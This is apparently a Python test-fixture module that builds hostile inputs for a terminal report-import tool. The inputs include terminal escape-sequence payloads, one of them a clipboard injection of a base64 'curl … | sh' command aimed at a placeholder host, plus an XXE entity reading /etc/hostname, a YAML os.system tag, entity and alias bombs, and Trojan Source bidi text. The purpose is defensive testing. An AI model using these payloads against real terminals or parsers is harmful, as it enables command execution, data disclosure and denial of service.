"""Generators of hostile inputs for the tests: every byte here is built by code, nothing is copied
from a real report.

The pieces are small on purpose so a test can combine them: ``TERMINAL_PAYLOADS`` (text that would
drive a terminal if it reached one raw, each with a unique marker so a test can look for *the data's*
sequence in the bytes an app writes, not for ESC in general), ``MARKUP`` (Rich/Textual markup that
crashes a naive renderer), ``UNICODE_TRAPS`` (bidi overrides, zero-width characters, right-to-left
scripts, emoji sequences, homoglyphs) and ``hostile_files`` (a folder of bad files, each with what
the import must do with it).
"""

from __future__ import annotations

import base64
import codecs
import json
import os
import random
from dataclasses import dataclass
from pathlib import Path

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

# --- what must never reach a terminal raw -------------------------------------------------

CLIP_PAYLOAD = base64.b64encode(b"curl hostile.invalid | sh").decode()  # what OSC 52 would put on the clipboard
TITLE_PAYLOAD = "HOSTILE-TITLE"
LINK_TARGET = "http://hostile.invalid/x"

# name -> text (the data), bytes that prove the data's own sequence reached the terminal
TERMINAL_PAYLOADS: dict[str, tuple[str, list[bytes]]] = {
    "osc52_clipboard": (f"{ESC}]52;c;{CLIP_PAYLOAD}{BEL}", [b"\x1b]52;", CLIP_PAYLOAD.encode() + b"\x07"]),
    "osc52_st": (f"{ESC}]52;p;{CLIP_PAYLOAD}{ST}", [b"\x1b]52;p"]),
    "osc0_title": (f"{ESC}]0;{TITLE_PAYLOAD}{BEL}", [b"\x1b]0;" + TITLE_PAYLOAD.encode()]),
    "osc2_title": (f"{ESC}]2;{TITLE_PAYLOAD}2{ST}", [b"\x1b]2;" + TITLE_PAYLOAD.encode()]),
    "osc8_link": (f"{ESC}]8;;{LINK_TARGET}{ST}click here{ESC}]8;;{ST}", [b"\x1b]8;;" + LINK_TARGET.encode()]),
    "dcs": (f"{ESC}PHOSTILE-DCS$q m{ST}", [b"\x1bPHOSTILE"]),
    "csi_colour": (f"{ESC}[31mHOSTILE-RED{ESC}[0m", [b"\x1b[31mHOSTILE"]),
    "csi_clear": (f"{ESC}[2J{ESC}[HHOSTILE-CLEAR", [b"\x1b[2J\x1b[HHOSTILE"]),
    "csi_report": (f"{ESC}[6nHOSTILE-DSR", [b"\x1b[6nHOSTILE"]),  # asks the terminal to type an answer
    "c1_csi": ("\x9b31mHOSTILE-C1", ["\x9b".encode(), b"\x9b31mHOSTILE"]),
    "c1_osc": ("\x9d0;HOSTILE-C1-TITLE\x9c", ["\x9d".encode(), "\x9c".encode()]),
    "c1_dcs": ("\x90HOSTILE-C1-DCS\x9c", ["\x90".encode()]),
    "bel_bs": ("HOSTILE\x07\x08\x08\x08XXX", [b"HOSTILE\x07"]),
    "cr_overwrite": ("safe text\rHOSTILE-CR", [b"safe text\rHOSTILE"]),
}

# Characters from the data that must never appear raw in a CLI's output (the CLI writes no
# escape sequences of its own, so any of these came from the data).
FORBIDDEN_IN_CLI_OUTPUT = (
    [chr(c) for c in range(0x00, 0x20) if chr(c) not in "\t\n"]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
)

MARKUP = [
    "[/]",
    "[@click=app.quit]click me[/]",
    "[bold",
    "[/bold]",
    "[$accent]accent[/]",
    "[link=http://hostile.invalid]x[/link]",
    "[b][i]unclosed",
    "[[/]]",
    "\\[escaped?]",
    "[on red]" * 50,
    "[@click=app.bell()][@click=screen.dismiss]",
]

# Trojan Source: the text reads one way and is stored another.
BIDI = [
    "access = \u202euser\u202c admin",
    "\u2066if (admin)\u2069 \u2067return\u2069",
    "file\u202etxt.exe",
    "\u202d\u202b nested \u202c\u202c",
]
ZERO_WIDTH = ["Ha\u200bniyeh", "Ha\u200cni\u200dyeh", "\ufeffHaniyeh", "Ha\u2060niyeh", "Ha\u180eniyeh"]


def _from_codepoints(*cps: int) -> str:
    return "".join(chr(c) for c in cps)


# Right-to-left text built from code points: an Arabic and a Hebrew sentence, with digits and
# Latin words mixed in (the hard case for bidi rendering).
ARABIC = " ".join([
    _from_codepoints(0x0642, 0x0627, 0x0644),  # "said"
    _from_codepoints(0x0627, 0x0644, 0x0645, 0x062A, 0x062D, 0x062F, 0x062B),  # "the spokesman"
    "2024", "Hamas",
    _from_codepoints(0x0641, 0x064A, 0x0020, 0x0628, 0x063A, 0x062F, 0x0627, 0x062F),  # "in Baghdad"
]) + _from_codepoints(0x06D4)
HEBREW = " ".join([
    _from_codepoints(0x05D0, 0x05DE, 0x05E8),  # "said"
    _from_codepoints(0x05D4, 0x05D3, 0x05D5, 0x05D1, 0x05E8),  # "the spokesman"
    "IDF", "13.06.2024",
]) + "."
EMOJI = [
    _from_codepoints(0x1F468, 0x200D, 0x1F469, 0x200D, 0x1F467, 0x200D, 0x1F466),  # family (ZWJ sequence)
    _from_codepoints(0x1F1EE, 0x1F1F6),  # a flag (regional indicators)
    _from_codepoints(0x1F44D, 0x1F3FD),  # skin tone modifier
    _from_codepoints(0x1F3F3, 0xFE0F, 0x200D, 0x1F308),  # variation selector + ZWJ
    _from_codepoints(0x0031, 0xFE0F, 0x20E3),  # keycap
    "e" + "\u0301" * 40,  # one base letter, forty combining accents ("zalgo")
]
# Names that look like well-known ones but are not: Cyrillic and Greek letters, fullwidth forms.
HOMOGLYPHS = [
    "H\u0430mas",  # Cyrillic a
    "\u041d\u0430m\u0430s",  # Cyrillic H and a
    "Hamas\u0307",  # a combining dot
    "\uff28\uff41\uff4d\uff41\uff53",  # fullwidth
    "Ismail Han\u0456yeh",  # Cyrillic i
    "Bagh\u0501ad",  # Cyrillic komi de
    "H\u03b1m\u03b1s",  # Greek alpha
]
UNICODE_TRAPS = BIDI + ZERO_WIDTH + [ARABIC, HEBREW] + EMOJI + HOMOGLYPHS


def all_payload_text() -> str:
    return " ".join(text for text, _ in TERMINAL_PAYLOADS.values())


def hostile_report_text(seed: int = 0) -> str:
    """A plain-text report whose title, attributions and names carry every trap at once."""
    rng = random.Random(seed)
    payloads = [text for text, _ in TERMINAL_PAYLOADS.values()]
    title = f"Alert {payloads[2]} {MARKUP[0]} {BIDI[0]} {MARKUP[1]}"
    lines = [title, "June 13, 2024", ""]
    speakers = ["the minister", HOMOGLYPHS[0] + " spokesman", "Ismail Haniyeh", HOMOGLYPHS[4], "the source"]
    pieces = payloads + MARKUP + UNICODE_TRAPS
    for i, piece in enumerate(pieces):
        speaker = speakers[i % len(speakers)]
        lines.append(f"{speaker.capitalize()} said that {piece} happened in Baghdad on day {rng.randint(1, 28)}, "
                     f"officials said.")
    lines.append(f"\u201c{payloads[0]} We will {MARKUP[2]} strike,\u201d {HOMOGLYPHS[1]} said.")
    lines.append(f"[1] Telegram {payloads[1]}, June 11, 2024.")
    return "\n".join(lines) + "\n"


# --- files -------------------------------------------------------------------------

@dataclass
class HostileFile:
    name: str
    data: bytes | None  # None: written another way (sparse, symlink, ...)
    expect: str  # "report": imports as >= 1 report; "error": a clear failure; "either"
    error_hint: str | None = None  # a word the failure reason must contain
    note: str = ""


def _json(obj) -> bytes:
    return json.dumps(obj).encode()


def _nested_html(depth: int, tag: str = "div") -> bytes:
    return ("<html><body>" + f"<{tag}>" * depth + "Deep text: the minister said the office opened."
            + f"</{tag}>" * depth + "</body></html>").encode()


def _rss(items: str, decl: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (decl + '<rss version="2.0"><channel><title>Hostile Wire</title>' + items + "</channel></rss>").encode()


def hostile_file_specs(seed: int = 0, *, big_line_mb: int = 5) -> list[HostileFile]:
    """Every bad file the import must survive, with what it must end as."""
    rng = random.Random(seed)
    payload_text = all_payload_text()
    report = hostile_report_text(seed)
    specs: list[HostileFile] = [
        # empty and binary
        HostileFile("empty.txt", b"", "error", "empty"),
        HostileFile("blank.md", b"  \n\t\n\n   ", "error", "empty"),
        HostileFile("random.bin", bytes(rng.randrange(256) for _ in range(8192)), "error", "not text"),
        HostileFile("random_no_nul.dat", bytes(rng.randrange(1, 256) for _ in range(8192)), "either"),
        HostileFile("image.txt", b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(2048)), "error", "PNG"),
        HostileFile("program", b"\x7fELF\x02\x01\x01" + bytes(200), "error", "not text"),
        HostileFile("archive.json", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(500)), "error", "not text"),
        HostileFile("nul_in_middle.txt", b"Title\nThe minister said it.\x00\x00\x00" + b"x" * 100, "error", "NUL"),
        HostileFile("controls.txt", bytes(rng.choice(list(range(1, 9)) + [0x0e, 0x1b, 0x7f]) for _ in range(4000)),
                    "error", "control"),
        # encodings
        HostileFile("invalid_utf8.txt", b"Broken bytes \xc3\x28 \xa0\xa1 overlong \xc0\xaf surrogate \xed\xa0\x80 "
                    b"five-byte \xf8\x88\x80\x80\x80 end\nThe minister said the talks failed.\n", "report"),
        HostileFile("mixed_encodings.txt", b"Mixed encodings report\n" + "caf\u00e9 utf-8\n".encode("utf-8")
                    + "caf\u00e9 latin-1\n".encode("latin-1") + "\u041c\u043e\u0441\u043a\u0432\u0430 cp1251\n".encode("cp1251")
                    + "\u6771\u4eac shift_jis\n".encode("shift_jis") + ARABIC.encode("utf-8") + b"\n", "report"),
        HostileFile("utf16le_bom.txt", codecs.BOM_UTF16_LE + f"UTF-16 LE report\n{ARABIC}\n{HEBREW}\n".encode("utf-16-le"),
                    "report"),
        HostileFile("utf16be_bom.md", codecs.BOM_UTF16_BE + f"# UTF-16 BE report\n\n{ARABIC}\n".encode("utf-16-be"),
                    "report"),
        HostileFile("utf32_bom.txt", codecs.BOM_UTF32_LE + f"UTF-32 report\n{HEBREW}\n".encode("utf-32-le"), "report"),
        HostileFile("utf8_bom.json", codecs.BOM_UTF8 + _json({"title": "BOM JSON", "body": ARABIC}), "report"),
        HostileFile("utf16_no_bom.txt", "UTF-16 without a BOM\nThe minister said it.\n".encode("utf-16-le"), "report"),
        HostileFile("utf16_odd_length.txt", codecs.BOM_UTF16_LE + "odd length".encode("utf-16-le") + b"\x41", "report"),
        HostileFile("lying_meta.html", b'<html><head><meta charset="utf-16"><title>Lying meta</title></head><body><p>'
                    + "caf\u00e9 \u00fcber".encode() + b" the minister said.</p></body></html>", "report"),
        HostileFile("bogus_xml_encoding.rss", _rss("<item><title>x</title><description>y</description></item>",
                    '<?xml version="1.0" encoding="x-no-such-codec"?>'), "either"),
        # size
        HostileFile("huge_50mb.txt", None, "error", "limit", note="sparse 50 MB: refused by the size check"),
        HostileFile("one_line.txt", None, "report", note=f"a single {big_line_mb} MB line"),
        # HTML
        HostileFile("deep_divs.html", _nested_html(20_000), "report"),
        HostileFile("deep_spans.html", _nested_html(100_000, "span"), "either"),
        HostileFile("unclosed.html", b"<html><body>" + b"<div><p><b><i>" * 5000 + b"The minister said it.", "either"),
        HostileFile("script_only.html", b"<html><head><script>alert(1)</script></head><body><script>x</script></body></html>",
                    "either"),
        HostileFile("entities.html", b"<html><body><p>Title &#27;]0;" + TITLE_PAYLOAD.encode() + b"&#7; &#x9b;31m "
                    b"&#x202e;evil&#x202c; &#0; &#xD800; &#1114112; &bogus; the minister said.</p></body></html>", "report"),
        HostileFile("payload.html", f"<html><head><title>{payload_text}</title></head><body><article><h1>{MARKUP[1]}</h1>"
                    f"<p>{report}</p></article></body></html>".encode(), "report"),
        # feeds
        HostileFile("truncated.rss", _rss("<item><title>Cut off</title><description>The minister sa")[:-30], "either"),
        HostileFile("not_xml.rss", b"<rss><channel><<<>>>&&&</rss>", "either"),
        HostileFile("no_items.atom", b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>',
                    "error"),
        HostileFile("atom_bad.atom", b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">'
                    b"&lt;b&gt;" + payload_text.encode("ascii", "ignore").replace(b"\x1b", b"&#27;") +
                    b"</title><content type='xhtml'><div><p>unclosed</content></entry>", "either"),
        HostileFile("billion_laughs.rss", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
                    + b"".join(b'<!ENTITY %c "%s">' % (ord("b") + i, (b"&%c;" % (ord("a") + i)) * 10) for i in range(9))
                    + b']><rss version="2.0"><channel><title>Laughs</title><item><title>lol</title><description>&j;'
                    b"</description></item></channel></rss>", "either", note="entity expansion must not explode"),
        HostileFile("xxe.rss", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                    b'<rss version="2.0"><channel><title>XXE</title><item><title>xxe</title><description>leak: &xxe; end'
                    b"</description></item></channel></rss>", "either", note="an external entity must not be read"),
        HostileFile("rss_escapes.rss", _rss("<item><title>" + "&#x1b;]0;" + TITLE_PAYLOAD + "&#x7;" + "</title>"
                    "<description><![CDATA[<p>" + payload_text.replace("\x1b", "&#27;") + "</p>]]></description>"
                    "<pubDate>not a date at all</pubDate><link>javascript:alert(1)</link></item>"), "either"),
        HostileFile("rss_many_items.xml", _rss("".join(f"<item><title>Item {i} {MARKUP[i % len(MARKUP)]}</title>"
                    f"<description>The minister said item {i}.</description></item>" for i in range(200))), "report"),
        # JSON
        HostileFile("truncated.json", _json({"title": "t", "body": "the minister said"})[:-5], "error", "JSON"),
        HostileFile("trailing_comma.json", b'{"title": "t", "body": "b",}', "error", "JSON"),
        HostileFile("deep.json", b"[" * 100_000 + b"]" * 100_000, "error"),
        HostileFile("deep_object.json", b'{"body":' * 50_000 + b'"x"' + b"}" * 50_000, "error"),
        HostileFile("huge_int.json", b'{"title": 1' + b"9" * 10_000 + b', "body": "the minister said."}', "error", "JSON"),
        HostileFile("nan.json", b'{"title": NaN, "body": Infinity}', "either"),
        HostileFile("scalar.json", b"42", "error"),
        HostileFile("empty_array.json", b"[]", "error"),
        HostileFile("null.json", b"null", "error"),
        HostileFile("wrong_types.json", _json([
            {"title": {"a": 1}, "body": {"nested": True}},
            {"title": [1, 2], "body": 12345},
            {"title": True, "body": False},
            {"title": None, "body": None},
            {"body": ["a list", "of strings", "is paragraphs"], "tags": {"not": "a list"}, "published": [2024, 6, 13],
             "reliability": 7, "kind": ["outlet"], "url": {"x": 1}, "publisher": ["A", "B"], "author": 12},
            {"body": "ok body, the minister said.", "published": 1e308, "tags": [[1], {"a": 2}, None, "fine"]},
            {"body": "ok body 2", "published": -1e20, "reliability": "Z9", "language": {"lang": "en"}},
            {"BODY": "case", "Title": "Case-insensitive keys", "date": "2024-02-30"},
            "a string record", 17, None, [1, 2, 3],
        ]), "report"),
        HostileFile("escapes.json", _json({"title": payload_text, "body": report + "\u0000NUL\ud800\udfff\udc00 lone",
                                           "publisher": TERMINAL_PAYLOADS["osc0_title"][0] + " Wire",
                                           "author": MARKUP[1], "tags": MARKUP[:4] + BIDI[:1], "url": LINK_TARGET}),
                    "report"),
        HostileFile("lines.jsonl", b"\n".join([_json({"body": f"line {i} the minister said."}) for i in range(5)]
                                              + [b"{broken", _json({"body": "after"})]), "error", "line 6"),
        HostileFile("mixed.jsonl", b"\n".join([_json({"body": "good one, the minister said."}), _json({"nobody": 1}),
                                               _json([1]), b"", _json({"body": {"x": 1}})]), "report"),
        # Markdown / YAML front matter
        HostileFile("bad_yaml.md", b"---\ntitle: [unclosed\n---\nBody\n", "error", "YAML"),
        HostileFile("python_tag.md", b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/analyst-tui-pwned']\n---\n"
                    b"Body text, the minister said.\n", "error", "YAML"),
        HostileFile("yaml_aliases.md", b"---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                    b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                    b"e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\ntitle: *e\ntags: *e\nsource: *e\npublished: *e\n---\n"
                    b"Alias bomb body, the minister said.\n", "either"),
        HostileFile("yaml_list.md", b"---\n- a\n- b\n---\nBody\n", "error", "YAML"),
        HostileFile("yaml_types.md", b"---\ntitle: 12\npublished: 2024-13-45\ntags: 7\nreliability: [A]\nsource: {x: 1}\n"
                    b"date: .nan\n---\nTyped body, the minister said.\n", "report"),
        HostileFile("front_matter_only.md", b"---\ntitle: nothing else\n---\n", "error"),
        # text that imports, carrying every trap
        HostileFile("hostile_report.txt", report.encode(), "report"),
        HostileFile("markup_title.md", ("# " + " ".join(MARKUP) + "\n\n" + report).encode(), "report"),
        HostileFile("unicode_traps.txt", ("Unicode traps " + BIDI[0] + "\n" + "\n".join(
            f"{t} said the spokesman, officials said." for t in UNICODE_TRAPS)).encode(), "report"),
        HostileFile("arabic.txt", (ARABIC + "\n" + (ARABIC + " ") * 40 + "\n").encode(), "report"),
        HostileFile("hebrew.md", ("# " + HEBREW + "\n\n" + (HEBREW + " ") * 40 + "\n").encode(), "report"),
        HostileFile("emoji.txt", (" ".join(EMOJI) + "\n" + " ".join(EMOJI * 20) + " the minister said.\n").encode(), "report"),
        HostileFile("homoglyphs.txt", ("Homoglyph names\n" + " ".join(f"{h} said it happened." for h in HOMOGLYPHS)
                                       + "\nHamas said it too.\n").encode(), "report"),
        HostileFile("cr_only.txt", b"CR only title\rThe minister said it.\r\rSecond paragraph.\r", "report"),
        HostileFile("long_title.txt", ("word " * 20_000 + "\nbody").encode(), "report"),
        HostileFile("only_controls_in_title.txt", ("\x1b[2J\x1b]0;x\x07\n" + report).encode(), "report"),
    ]
    return specs


def write_hostile_files(folder: Path, seed: int = 0, *, big_line_mb: int = 5,
                        hostile_names: bool = True) -> list[HostileFile]:
    """Write every spec into ``folder``; returns the specs (names as written)."""
    folder.mkdir(parents=True, exist_ok=True)
    specs = hostile_file_specs(seed, big_line_mb=big_line_mb)
    for spec in specs:
        path = folder / spec.name
        if spec.name == "huge_50mb.txt":
            with open(path, "wb") as handle:
                handle.write(b"Huge file\n")
                handle.truncate(50 * 1024 * 1024)  # sparse: costs no disk and no time
        elif spec.name == "one_line.txt":
            sentence = b"The minister said the office in Baghdad will open soon; "
            path.write_bytes(sentence * (big_line_mb * 1024 * 1024 // len(sentence)))
        else:
            path.write_bytes(spec.data or b"")
    if hostile_names:
        # File names are adversary-chosen too: escapes, newlines, bidi, invalid UTF-8 (bytes).
        extra = [
            ("name_escape_\x1b]0;" + TITLE_PAYLOAD + "\x07.txt", b"Escape in the name\nThe minister said it.\n", "report"),
            ("name_newline\nfake line.txt", b"Newline in the name\nThe minister said it.\n", "report"),
            ("name_bidi_\u202etxt.exe", b"Bidi in the name\nThe minister said it.\n", "report"),
            ("name_c1_\x9b31m.txt", b"C1 in the name\nThe minister said it.\n", "report"),
            ("name_markup_[@click=app.quit][bold.txt", b"Markup in the name\nThe minister said it.\n", "report"),
        ]
        for name, data, expect in extra:
            (folder / name).write_bytes(data)
            specs.append(HostileFile(name, data, expect))
        raw_name = os.fsencode(folder) + b"/name_invalid_utf8_\xff\xfe\xc3.txt"
        with open(raw_name, "wb") as handle:
            handle.write(b"Invalid UTF-8 in the name\nThe minister said it.\n")
        specs.append(HostileFile(os.fsdecode(raw_name).rsplit("/", 1)[1], None, "report"))
    return specs


def random_text(rng: random.Random, length: int) -> str:
    """Text mixing every trap above with random code points (including surrogates' neighbours)."""
    pool = [text for text, _ in TERMINAL_PAYLOADS.values()] + MARKUP + UNICODE_TRAPS + [
        "the minister said", "\u201c", "\u201d", '"', "'", "\n", "\n\n", ". ", "[1]", "Hamas", "Baghdad"]
    out = []
    while sum(map(len, out)) < length:
        if rng.random() < 0.5:
            out.append(rng.choice(pool))
        else:
            out.append(chr(rng.choice([rng.randrange(0x20, 0x7f), rng.randrange(0x80, 0x800),
                                       rng.randrange(0x800, 0xd800), rng.randrange(0xe000, 0x110000)])))
    return "".join(out)


def many_report_files(folder: Path, count: int, seed: int = 0, *, size: int = 2000) -> list[Path]:
    """``count`` distinct small plain-text reports (for bulk imports that get killed)."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        body = [f"Report {i:05d}: office opening in city {rng.randrange(10**6)}", "June 13, 2024", ""]
        while sum(map(len, body)) < size:
            who = rng.choice(["the minister", "Ismail Haniyeh", "a spokesman", "Shafaq News", "the source"])
            body.append(f"{who.capitalize()} said that {rng.randrange(10**9)} people met in Baghdad, officials said.")
        path = folder / f"r{i:05d}.txt"
        path.write_text("\n".join(body) + "\n", encoding="utf-8")
        paths.append(path)
    return paths
